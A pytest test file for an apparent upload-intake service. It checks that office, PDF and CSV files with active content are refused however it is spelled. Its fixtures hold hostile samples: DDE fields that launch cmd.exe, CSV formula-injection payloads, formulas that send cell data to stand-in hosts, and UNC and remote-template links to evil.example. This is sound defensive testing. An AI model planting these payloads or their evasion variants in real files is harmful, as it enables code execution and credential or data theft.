"""What acts by itself is found however it is spelled, and no pattern is led astray for long."""

import pikepdf
import pytest

from documents import intake
from documents.files.page_texts import tidy
from documents.files.refused import Refused
from documents.models import Upload
from tests.documents import files
from tests.documents.files import docx, odt, package, pdf_with

D = pikepdf.Dictionary
N = pikepdf.Name
_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def _linked(kind, mode='TargetMode="External"', target="https://evil.example/t", **more):
    link = f'<Relationship Id="r1" Type="{_TYPE}{kind}" Target="{target}" {mode}/>'
    return docx("x", **{"word/_rels/a.xml.rels": f"<Relationships>{link}</Relationships>"}, **more)


def _field(*texts):
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return docx(body=f"<w:p>{begin}{runs}{end}</w:p>")


def _nested(inner, rest):
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    text = "<w:r><w:instrText>{}</w:instrText></w:r>"
    return docx(body=f"<w:p>{begin}{begin}{text.format(inner)}{end}{text.format(rest)}{end}</w:p>")


def _sheet(formula):
    return package(
        {
            "[Content_Types].xml": "<Types><Override PartName='/xl/workbook.xml' "
            f"ContentType='{_SHEET_TYPE}'/></Types>",
            "xl/workbook.xml": "<workbook/>",
            "xl/worksheets/sheet1.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>",
        }
    )


def _opening(**action):
    def change(document):
        document.Root.OpenAction = D(**action)

    return pdf_with(change)


def _goes_on(document):
    document.Root.OpenAction = D(S=N.GoTo, D=pikepdf.Array([0]), Next=D(S=N.URI, URI="https://e"))


def _leaks_password(document):
    link = D(Type=N.Annot, Subtype=N.Link, A=D(S=N.GoToR, F=r"\\evil.example\share\a.pdf"))
    document.pages[0].Annots = pikepdf.Array([link])


_UTF16_RELS = (
    '<?xml version="1.0" encoding="UTF-16"?><Relationships><Relationship Id="a" '
    f'Type="{_TYPE}attachedTemplate" Target="https://e/t.dotm" TargetMode="External"/>'
    "</Relationships>"
).encode("utf-16")
HIDDEN = {
    "blanks in the attribute": (_linked("attachedTemplate", "TargetMode = 'External'"), "remote"),
    "character references": (_linked("attachedTemplate", 'TargetMode="&#69;xternal"'), "remote"),
    "another encoding": (docx("x", **{"word/_rels/a.xml.rels": _UTF16_RELS}), "remote"),
    "no mode but an address": (_linked("attachedTemplate", ""), "remote"),
    "a UNC path": (_linked("frame", "", r"\\evil\t"), "remote"),
    "a linked picture": (_linked("image"), "remote"),
    "a page taken in": (_linked("aFChunk", "", "page.html"), "attachment"),
    "a control by its link": (_linked("control", "", "x.bin"), "macros"),
    "a part without an ending": (
        docx("x", **{"word/settings": '<w:a xmlns:w="w"><w:ddeLink/></w:a>'}), "program",
    ),
    "DDE split into runs": (_field("D", "DE", "AUTO c:\\cmd.exe"), "program"),
    "DDE by references": (_field("&#68;DE c:\\cmd.exe"), "program"),
    "DDE in a simple field": (docx(body='<w:fldSimple w:instr=" DDE c:\\x y"/>'), "program"),
    "DDE by the codes of its letters": (_nested("QUOTE 68 68 69", " c:\\x y"), "program"),
    "a picture taken in by a field": (
        _field("INCLUDE", "PICTURE ", "&quot;https://e/p.png&quot; \\d"), "remote",
    ),
    "a text of a share taken in": (
        docx(body=r'<w:fldSimple w:instr=" INCLUDETEXT \\\\evil\\a.docx"/>'), "remote",
    ),
    "a late DOCTYPE": (
        docx("x", **{"word/a.xml": "<!--" + "x" * 9000 + "--><!DOCTYPE a []><a/>"}), "entities",
    ),
    "DOCTYPE in UTF-16": (
        docx("x", **{"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")}),
        "entities",
    ),
    "a formula that fetches": (_sheet('WEBSERVICE("https://e/?" &amp; A1)'), "formula"),
    "a formula that sends": (_sheet('HYPERLINK("https://e/?"&amp;B2,"see")'), "formula"),
    "a formula that starts": (_sheet("cmd|'/C calc'!A0"), "formula"),
    "a remote picture of odt": (
        odt("x", content='<draw:image xmlns:draw="d" xmlns:x="x" x:href="https://e/p.png"/>'),
        "remote",
    ),
}  # fmt: skip
PDFS = {
    "an address at opening": (_opening(S=N.URI, URI="https://evil.example"), "program"),
    "a share at opening": (_opening(S=N.GoToR, F="x.pdf"), "program"),
    "an address after a page": (pdf_with(_goes_on), "program"),
    "a share behind a link": (pdf_with(_leaks_password), "remote"),
}
CSVS = {
    "a link that sends a cell": b'a,b\n"=HYPERLINK(""http://e/?x=""&A1,""click"")",1\n',
    "the same between semicolons": b'a;b\n=HYPERLINK("http://e/?x="&A1,"click");1\n',
    "something fetched": b'a,b\n"=IMPORTXML(""http://e"",""//a"")",1\n',
    "in UTF-16": "a,b\n=cmd|'/C calc'!A0,1\n".encode("utf-16"),
    "between tabs": b"a\tb\n=cmd|'/C calc'!A0\t1\n",
    "after a plus": b"a,b\n+cmd|'/C calc'!A0,1\n",
    "after an at": b"a,b\n@cmd|'/C calc'!A0,1\n",
    "with a wide sign": "a,b\n\uff1dcmd|'/C calc'!A0,1\n".encode(),
    "after blanks": b"a,b\n  =cmd|'/C calc'!A0,1\n",
}


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        *[(f"{what}.docx", *given) for what, given in HIDDEN.items()],
        *[(f"{what}.pdf", *given) for what, given in PDFS.items()],
        *[(f"{what}.csv", content, "formula") for what, content in CSVS.items()],
    ],
)
def test_what_acts_is_refused_however_it_is_spelled(name, content, code, take):
    upload = take(content, name)
    assert (upload.state, upload.refusal) == ("refused", code)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("link.docx", _linked("hyperlink")),
        ("field.docx", _field(" PAGE ", " \\* MERGEFORMAT ")),
        ("own.docx", _field(' INCLUDEPICTURE "media/a.png" \\d ')),
        ("quote.docx", _nested("QUOTE 65 66", " PAGE ")),
        ("address.docx", _field(' HYPERLINK "https://example.org" ')),
        ("sums.xlsx", _sheet("SUM(A1:A9)&amp;IF(B1=1,&quot;a|b!&quot;,2)")),
        ("cells.xlsx", _sheet("HYPERLINK(B2,&quot;see&quot;)")),
        ("place.pdf", _opening(S=N.GoTo, D=pikepdf.Array([0, N.Fit]))),
        ("figures.csv", b"a,b,c\n-5,a|b,c!d\n+1,x;|y!,2\n=SUM(A1;B2),|,!\n"),
    ],
)
def test_ordinary_files_come_in(name, content, take):
    upload = take(content, name)
    assert (upload.state, upload.refusal) == ("draft", "")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("open.docx", docx("x", **{"word/_rels/x.xml.rels": "<Relationship" * 80_000})),
        ("wide.docx", docx("x", **{"word/_rels/x.xml.rels": "<Relationship " + " " * 900_000})),
        ("changes.docx", docx(body="<w:ins " * 150_000)),
        ("bars.csv", b'"=|' * 300_000),
        ("lines.csv", b"a\n" + b"\n" * 900_000 + b"="),
        ("marks.txt", b"<" + b" " * 400_000 + b"<" * 400_000),
        ("blanks.txt", ("a" + "\u2003" * 300_000 + "b").encode()),
        ("digits.txt", b"+1 2 3 4" * 100_000),
    ],
)
def test_no_pattern_takes_its_square_of_time(name, content, take):
    """What is quadratic needs hours, and the inspector would refuse it as too complex."""
    assert take(content, name).refusal in {"", "truncated", "formula"}


def test_blank_lines_go_and_words_stay():
    assert tidy(" a \u2003 b\n\n \t\n c\x0b\n") == "a \u2003 b\nc"


def test_files_looked_into_at_once_are_few(take):
    """Each holds up somebody's request; more of them wait, and lose nothing."""
    first = take(files.pdf())
    other = {"by": first.by, "project": first.project, "declared_size": 1, "state": "checking"}
    for number in range(intake.AT_ONCE_EACH):
        Upload.objects.create(file_name=f"{number}.pdf", **other)
    with pytest.raises(Refused, match="busy"):
        take(files.pdf("another"))
    assert Upload.objects.filter(state="receiving").count() == 1
    Upload.objects.filter(state="checking").delete()
    assert take(files.pdf("another")).state == "draft"
